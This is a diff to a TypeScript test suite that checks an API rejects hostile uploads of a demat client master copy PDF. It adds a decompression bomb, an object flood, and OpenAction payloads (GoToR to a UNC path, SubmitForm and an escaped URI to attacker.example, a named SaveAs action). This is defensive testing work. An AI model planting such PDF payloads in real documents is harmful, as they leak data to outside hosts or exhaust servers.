@@ -5,6 +5,7 @@ import { KeyRing } from '../../src/lib/crypto/index.js';
 import { authed, registerAndLogin, TEST_SECRETS, useTestApp } from '../helpers/app.js';
 import { sandboxProfile } from '../helpers/kyc.js';
 import { imagePart, multipart } from '../helpers/multipart.js';
+import { objectFlood, objectStreamBomb, pdfWith } from '../modules/documents/hostile-pdfs.js';
 
 // Attacks on request handling, one row each: what is sent, and the answer it must get. Every answer is
 // problem+json; where a field is to blame, the answer names it.
@@ -21,10 +22,12 @@ interface Fixture {
 
 interface Attack {
   attack: string;
-  request: (fixture: Fixture) => InjectOptions;
+  request: (fixture: Fixture) => InjectOptions | Promise<InjectOptions>;
   status: number;
   code: string;
   field?: string;
+  /** The code of the field's own problem, where it says more than `code`. */
+  fieldCode?: string;
 }
 
 const json = (payload: string, headers: Record<string, string> = {}): InjectOptions => ({
@@ -55,6 +58,39 @@ const base64Alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123
 /** The same bytes spelled differently: the last character carries two unused bits. */
 const sameBytesOtherSpelling = (signature: string) =>
   signature.slice(0, -1) + base64Alphabet[base64Alphabet.indexOf(signature.at(-1)!) ^ 1];
+
+const MASTER_COPY = '/dematDetails/0/clientMasterCopy';
+/** The profile's demat entry carrying `pdf` as its client master copy. */
+const masterCopyUpload = (fixture: Fixture, pdf: Buffer): InjectOptions => ({
+  method: 'PUT',
+  url: '/v1/data/update_data',
+  payload: {
+    dematDetails: [
+      {
+        depository: 'CDSL',
+        dpID: '12081600',
+        clientID: '00012345',
+        primary: true,
+        clientMasterCopy: pdf.toString('base64'),
+      },
+    ],
+  },
+  headers: { authorization: `Bearer ${fixture.token}` },
+});
+const pdfAttack = (
+  attack: string,
+  pdf: () => Buffer | Promise<Buffer>,
+  status: number,
+  code: string,
+  fieldCode: string,
+): Attack => ({
+  attack,
+  request: async (fixture) => masterCopyUpload(fixture, await pdf()),
+  status,
+  code,
+  field: MASTER_COPY,
+  fieldCode,
+});
 
 const ATTACKS: Attack[] = [
   {
@@ -141,6 +177,48 @@ const ATTACKS: Attack[] = [
     status: 403,
     code: 'forbidden',
   },
+  pdfAttack(
+    'PDF object stream inflating to 1 GB',
+    () => objectStreamBomb(1024 ** 3),
+    400,
+    'validation_failed',
+    'document_too_complex',
+  ),
+  pdfAttack(
+    'PDF of 120,000 tiny objects',
+    () => objectFlood(120_000),
+    400,
+    'validation_failed',
+    'document_too_complex',
+  ),
+  pdfAttack(
+    'PDF opening a UNC path (GoToR)',
+    () => pdfWith('/OpenAction << /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >>'),
+    415,
+    'unsupported_media_type',
+    'pdf_external_action',
+  ),
+  pdfAttack(
+    'PDF submitting a form to a URL',
+    () => pdfWith('/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://attacker.example/) >> >>'),
+    415,
+    'unsupported_media_type',
+    'pdf_external_action',
+  ),
+  pdfAttack(
+    'PDF with a #-escaped /URI action',
+    () => pdfWith('/OpenAction << /S /#55RI /URI (https://attacker.example/) >>'),
+    415,
+    'unsupported_media_type',
+    'pdf_external_action',
+  ),
+  pdfAttack(
+    'PDF running a named action on open',
+    () => pdfWith('/OpenAction << /S /Named /N /SaveAs >>'),
+    415,
+    'unsupported_media_type',
+    'pdf_active_content',
+  ),
 ];
 
 describe('hostile requests', () => {
@@ -181,11 +259,13 @@ describe('hostile requests', () => {
     expect(genuine.statusCode).toBe(200);
   });
 
-  it.each(ATTACKS)('$attack → $status $code', async ({ request, status, code, field }) => {
-    const response = await ctx.app.inject(request(fixture));
+  it.each(ATTACKS)('$attack → $status $code', async ({ request, status, code, field, fieldCode }) => {
+    const response = await ctx.app.inject(await request(fixture));
     expect(response.statusCode, response.body.slice(0, 300)).toBe(status);
     expect(response.headers['content-type']).toMatch(/^application\/problem\+json/);
     expect(response.json()).toMatchObject({ code, status, success: false });
     if (field) expect(response.json().errors.map((error: { field: string }) => error.field)).toContain(field);
+    if (fieldCode)
+      expect(response.json().errors).toContainEqual(expect.objectContaining({ field, code: fieldCode }));
   });
 });
